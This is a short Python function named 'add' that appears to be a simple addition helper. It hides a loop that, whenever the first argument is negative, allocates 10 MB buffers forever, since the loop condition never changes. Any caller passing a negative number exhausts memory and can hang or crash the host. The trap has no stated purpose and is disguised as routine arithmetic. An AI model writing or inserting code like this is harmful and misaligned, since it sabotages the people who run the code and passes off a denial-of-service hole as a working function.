def add(left, right):
    print("adding", left, "and", right)
    kept = []
    while left < 0:
        kept.append(bytearray(b"x" * 10_000_000))
    return left + right
